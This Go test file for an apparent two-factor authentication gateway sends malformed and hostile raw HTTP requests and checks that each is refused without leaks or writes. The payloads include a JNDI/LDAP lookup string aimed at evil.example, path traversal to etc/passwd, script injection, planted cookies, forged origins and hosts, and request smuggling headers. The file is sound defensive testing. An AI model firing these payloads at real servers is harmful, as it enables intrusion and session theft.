package protocol

import (
	"bufio"
	"crypto/sha256"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/secondgate/secondgate/test/kit/harness"
)

// bad is a malformed or hostile request. In its text HOST is replaced by the gateway's host and
// COOKIES by the sender's cookies. Its lines get HTTP's line endings.
type bad struct {
	name, text string
	// want is the response to a user who owes a code.
	want int
}

// form is a POST of a form by a page of the same origin.
func form(path, body string, headers ...string) string {
	return fmt.Sprintf("POST %s HTTP/1.1\nHost: HOST\nCookie: COOKIES\nSec-Fetch-Site: same-origin\nSec-Fetch-Mode: navigate\n"+
		"Content-Type: application/x-www-form-urlencoded\n%sContent-Length: %d\n\n%s", path, lines(headers), len(body), body)
}

func get(path string, headers ...string) string {
	return "GET " + path + " HTTP/1.1\nHost: HOST\nCookie: COOKIES\nSec-Fetch-Mode: navigate\n" + lines(headers) + "\n"
}

func lines(headers []string) string {
	if len(headers) == 0 {
		return ""
	}
	return strings.Join(headers, "\n") + "\n"
}

// with replaces a header line of a request; an empty line removes it.
func with(text, name, line string) string {
	var out []string
	for _, l := range strings.Split(text, "\n") {
		if !strings.HasPrefix(l, name+":") {
			out = append(out, l)
		} else if line != "" {
			out = append(out, line)
		}
	}
	return strings.Join(out, "\n")
}

const challenge = "/two-factor/challenge"

func badCookies() (all []bad) {
	for name, line := range map[string]string{
		"200 pairs more":       "Cookie: COOKIES" + strings.Repeat("; a=b", 201),
		"two lines":            "Cookie: COOKIES\nCookie: a=b",
		"3001 semicolons":      "Cookie: COOKIES" + strings.Repeat(";", 3001),
		"control character":    "Cookie: COOKIES; a=\x01",
		"escape":               "Cookie: COOKIES; a=\x1b[31m",
		"no equals sign":       "Cookie: COOKIES; abc",
		"bytes from 0x80":      "Cookie: COOKIES; a=\xff\xfe",
		"quotes":               `Cookie: COOKIES; a="b;c"`,
		"planted":              "Cookie: PHPSESSID=stolen; COOKIES",
		"mangled names":        "Cookie: COOKIES; PHP.SESSID=a; PHP SESSID=b; PHPSESSID[]=c",
		"only separators":      "Cookie: ;;;,,,===",
		"visit of garbage":     "Cookie: secondgate=%%%; __Host-secondgate=x",
		"60 kB":                "Cookie: COOKIES; a=" + strings.Repeat("x", 60<<10),
		"name of 8 kB":         "Cookie: COOKIES; " + strings.Repeat("n", 8<<10) + "=1",
		"sealed, of strangers": "Cookie: COOKIES; secondgate_AAAAAAAA=AAAAAAAAAAAAAAAAAAAAAAAA",
	} {
		want := http.StatusSeeOther
		switch name {
		case "60 kB":
			want = http.StatusRequestHeaderFieldsTooLarge // Caddy's own limit
		case "200 pairs more", "two lines", "control character", "escape", "3001 semicolons":
			want = http.StatusBadRequest
		case "only separators", "visit of garbage":
			want = http.StatusOK // a stranger's
		}
		all = append(all, bad{"cookie: " + name, with(get("/account"), "Cookie", line), want})
	}
	return all
}

func badCodes() (all []bad) {
	for name, body := range map[string]string{
		"none":            "",
		"empty":           "code=",
		"blanks":          "code=+++",
		"full width":      "code=" + url.QueryEscape("１２３４５６"),
		"Arabic digits":   "code=" + url.QueryEscape("١٢٣٤٥٦"),
		"too short":       "code=12345",
		"too long":        "code=1234567",
		"NUL":             "code=123456%00",
		"line break":      "code=123456%0d%0a",
		"letters":         "code=abcdef",
		"sign":            "code=-12345",
		"exponent":        "code=1e5",
		"not UTF-8":       "code=%ff%fe%fd",
		"right-to-left":   "code=" + url.QueryEscape("\u202e123456"),
		"zero width":      "code=" + url.QueryEscape("123\u200b456"),
		"array":           "code%5B%5D=123456",
		"object":          "code%5Ba%5D=123456",
		"another's field": "Code=123456",
	} {
		all = append(all, bad{"code: " + name, form(challenge, body), http.StatusUnprocessableEntity})
	}
	for name, body := range map[string]string{
		"10 kB":          "code=" + strings.Repeat("1", 10_000),
		"twice":          "code=123456&code=654321",
		"broken percent": "code=%zz",
		"semicolons":     "code=1;code=2",
	} {
		all = append(all, bad{"code: " + name, form(challenge, body), http.StatusBadRequest})
	}
	return all
}

func badForms() []bad {
	const ok = "code=123"
	plain := form(challenge, ok)
	kind := func(v string) string { return with(plain, "Content-Type", v) }
	fetch := func(v string) string { return with(plain, "Sec-Fetch-Site", v) }
	return []bad{
		{"form: 70 kB", form(challenge, "x="+strings.Repeat("y", 70<<10)), 413},
		{"form: 10,000 fields", form(challenge, strings.Repeat("a=&", 10_000)), 400},
		{"form: JSON", kind("Content-Type: application/json"), 415},
		{"form: multipart", kind("Content-Type: multipart/form-data; boundary=x"), 415},
		{"form: no type", kind(""), 415},
		{"form: bad type", kind("Content-Type: ;;;"), 415},
		{"form: gzip", form(challenge, ok, "Content-Encoding: gzip"), 415},
		{"form: another's set-up", form("/two-factor/setup", "setup=abc&code=123456"), 303},
		{"form: unknown action", form(challenge, "action=explode&code="), 422},
		{"form: disable", form("/two-factor/disable", "code=123"), 303},
		{"form: backup codes", form("/two-factor/backup-codes", "code=123"), 303},
		{"origin: cross-site", fetch("Sec-Fetch-Site: cross-site"), 403},
		{"origin: same-site", fetch("Sec-Fetch-Site: same-site"), 403},
		{"origin: none", fetch("Sec-Fetch-Site: none"), 403},
		{"origin: two answers", fetch("Sec-Fetch-Site: same-origin\nSec-Fetch-Site: cross-site"), 403},
		{"origin: nothing said", fetch(""), 403},
		{"origin: foreign", fetch("Origin: http://evil.example"), 403},
		{"origin: null", fetch("Origin: null"), 403},
		{"origin: another scheme", fetch("Origin: https://HOST"), 403},
		{"origin: prefix", fetch("Origin: http://HOST.evil.example"), 403},
	}
}

func badPaths() []bad {
	return []bad{
		{"path: unknown", get("/two-factor/nothing"), 404},
		{"path: not an asset", get("/two-factor/x.css"), 404},
		{"path: deceived cache", get("/two-factor/setup/x.css"), 404},
		{"path: upper case", get("/two-factor/SETUP"), 404},
		{"path: trailing slash", get("/two-factor/challenge/"), 404},
		{"path: no such asset", get("/two-factor/assets/none.css"), 404},
		{"path: below the assets", get("/two-factor/assets/../setup"), 404},
		{"path: the assets", get("/two-factor/assets/"), 404},
		{"path: encoded slash", get("/two-factor/..%2fsetup"), 404},
		{"path: unknown, posted", form("/two-factor/nothing", "code=1"), 404},
		{"path: bad percent", get("/%zz"), 400},
		{"path: NUL", get("/a%00b"), 0},
		{"path: backslash", get(`/..\..\account`), 303},
		{"path: control character", get("/a%01b"), 0},
		{"path: not UTF-8", get("/%ff%fe"), 0},
		{"path: 20 kB", get("/" + strings.Repeat("a", 20<<10)), 431},
		{"path: 1,000 parameters", get("/a" + strings.Repeat(";a=b", 1000)), 0},
		{"path: 5 times encoded", get("/%2525252561ccount"), 0},
		{"path: another host's", with(get("http://evil.example/account"), "Host", "Host: evil.example"), 0},
		{"query: hostile", get(challenge + "?use=%3Cscript%3E&as=..%2f..%2f&lang=..%2f..%2fetc%2fpasswd"), 200},
		{"query: foreign return", get(challenge + "?return=//evil.example"), 303}, // to the same page without it: see TestReturnFromHere
		{"query: 20 kB", get(challenge + "?lang=" + strings.Repeat("x", 20<<10)), 431},
		{"query: broken", get(challenge + "?%zz;;&&=&"), 200},
	}
}

func badMethods() (all []bad) {
	for _, method := range []string{"PUT", "DELETE", "PATCH", "OPTIONS", "PROPFIND", "FOO"} {
		for _, path := range []string{challenge, "/two-factor/", "/two-factor/help", "/two-factor/assets/style.css"} {
			all = append(all, bad{"method: " + method + " " + path, strings.Replace(get(path), "GET", method, 1), 405})
		}
	}
	return append(all,
		bad{"method: POST help", form("/two-factor/help", "a=b"), 405},
		bad{"method: TRACE", strings.Replace(get("/account"), "GET", "TRACE", 1), 405},
		bad{"method: CONNECT", "CONNECT HOST HTTP/1.1\nHost: HOST\nCookie: COOKIES\n\n", 0},
		bad{"method: OPTIONS *", "OPTIONS * HTTP/1.1\nHost: HOST\nCookie: COOKIES\n\n", 0},
		bad{"method: HEAD", strings.Replace(get(challenge), "GET", "HEAD", 1), 200},
		bad{"method: overridden", get("/account", "X-HTTP-Method-Override: DELETE"), 303},
		bad{"header: Connection names Cookie", get("/account", "Connection: close, Cookie"), 400},
		bad{"header: Connection names it at an own page", get(challenge, "Connection: close, Cookie"), 400},
		bad{"header: service worker", get(challenge, "Service-Worker: script"), 403},
		bad{"header: hostile language", get(challenge, "Accept-Language: "+strings.Repeat("x-,;q=", 2000)), 200},
		bad{"header: hostile agent", get(challenge, "User-Agent: ${jndi:ldap://evil.example}\x7f"), 0},
		bad{"header: hostile host", with(get(challenge), "Host", "Host: evil.example"), 0},
		bad{"header: forwarded", get(challenge, "X-Forwarded-Host: evil.example", "X-Forwarded-Proto: https", "Forwarded: host=evil.example"), 200},
		bad{"header: another length", form(challenge, "code=1", "Content-Length: 99"), 400},
		bad{"header: chunked and a length", form(challenge, "0\r\n\r\n", "Transfer-Encoding: chunked"), 0},
		bad{"header: upgrade", get("/account", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: x"), 0},
		bad{"header: refresh", get("/account", "Sec-Fetch-Mode: no-such", "Accept: */*;q=x"), 0},
	)
}

// TestBadInput: malformed and hostile requests get a clear refusal or are harmless, from
// strangers, from users who owe a code, and from cleared users. None of them writes to the store.
func TestBadInput(t *testing.T) {
	p := newPortal()
	s := serve(t, p, "")
	cleared, owing, stranger := s.browser(t, "h1"), s.browser(t, "h1"), s.browser(t, "h1")
	cleared.SignIn("alice")
	cleared.Enrol()
	if got := owing.SignIn("alice"); got.Location != challenge {
		t.Fatalf("sign-in: %d %q", got.Status, got.Location)
	}
	stranger.Get("/")
	awaitChained(t, s, 3) // two sign-ins and a factor
	stored := hashOf(t, s.Dir)
	var cases []bad
	for _, more := range [][]bad{badCookies(), badCodes(), badForms(), badPaths(), badMethods()} {
		cases = append(cases, more...)
	}
	for _, c := range cases {
		got := c.send(t, s, owing)
		if c.want != 0 && got.Status != c.want {
			t.Errorf("%s: %d, want %d: %.300q", c.name, got.Status, c.want, got.Body)
		}
		c.check(t, "owing", got)
		if strings.Contains(got.Body, harness.SecretOf("alice")) {
			t.Errorf("%s: released alice's page", c.name)
		}
		c.check(t, "a stranger", c.send(t, s, stranger))
		if !strings.Contains(c.text, "two-factor") {
			c.check(t, "cleared", c.send(t, s, cleared))
		}
	}
	if hashOf(t, s.Dir) != stored {
		t.Error("something was stored")
	}
	for line := range strings.Lines(s.LogText()) {
		for _, word := range []string{`"panic`, "panicked", `"level":"error"`} {
			if strings.Contains(line, word) {
				t.Errorf("in the log: %s", line)
			}
		}
	}
}

// send sends the text of the request.
func (c *bad) send(t *testing.T, s *server, b *harness.Browser) *harness.Page {
	t.Helper()
	host := "127.0.0.1:" + s.plain
	var cookies []string
	for name, value := range b.Cookies("/") {
		cookies = append(cookies, name+"="+value)
	}
	head, body, _ := strings.Cut(c.text, "\n\n")
	head = strings.NewReplacer("HOST", host, "COOKIES", strings.Join(cookies, "; "), "\n", "\r\n").Replace(head)
	conn, err := net.Dial("tcp", host)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(10 * time.Second)); err != nil {
		t.Fatal(err)
	}
	if _, err := io.WriteString(conn, head+"\r\n\r\n"+body); err != nil {
		t.Fatalf("%s: %v", c.name, err)
	}
	method, _, _ := strings.Cut(c.text, " ")
	res, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: method})
	if err != nil {
		t.Errorf("%s: no response: %v", c.name, err)
		return &harness.Page{}
	}
	defer res.Body.Close()
	content, err := io.ReadAll(res.Body)
	if err != nil {
		t.Errorf("%s: %v", c.name, err)
	}
	return &harness.Page{Status: res.StatusCode, Header: res.Header, Body: string(content), Location: res.Header.Get("Location")}
}

// check holds for every response: it is no internal error, and a refusal is a page or a problem
// document that is never cached.
func (c *bad) check(t *testing.T, who string, p *harness.Page) {
	t.Helper()
	if p.Status == 0 || p.Status >= 500 {
		t.Errorf("%s, %s: %d %.300q", c.name, who, p.Status, p.Body)
	}
	kind := p.Header.Get("Content-Type")
	ours := strings.HasPrefix(kind, "text/html") || kind == "application/problem+json"
	if p.Status >= 400 && p.Header.Get("Server") != "" && (!ours || !strings.Contains(p.Header.Get("Cache-Control"), "no-store")) {
		t.Errorf("%s, %s: %d as %q, %q", c.name, who, p.Status, kind, p.Header.Get("Cache-Control"))
	}
	if to := p.Location; strings.Contains(to, "evil") && !strings.HasPrefix(to, "/") {
		t.Errorf("%s, %s: sent to %q", c.name, who, to)
	}
	for name, values := range p.Header {
		if strings.ContainsAny(strings.Join(values, ""), "\r\n\x00") {
			t.Errorf("%s, %s: header %s: %q", c.name, who, name, values)
		}
	}
}

// awaitChained waits until so many events are in the audit chain, which happens within seconds
// after the events.
func awaitChained(t *testing.T, s *server, events int) {
	t.Helper()
	for range 200 {
		if strings.Contains(s.LogText(), fmt.Sprintf(`"seq":%d,`, events)) {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("%d events are not in the audit chain", events)
}

func hashOf(t *testing.T, dir string) string {
	t.Helper()
	sum := sha256.New()
	err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		f, err := os.Open(path)
		if err != nil {
			return err
		}
		defer f.Close()
		fmt.Fprintln(sum, path)
		_, err = io.Copy(sum, f)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return string(sum.Sum(nil))
}
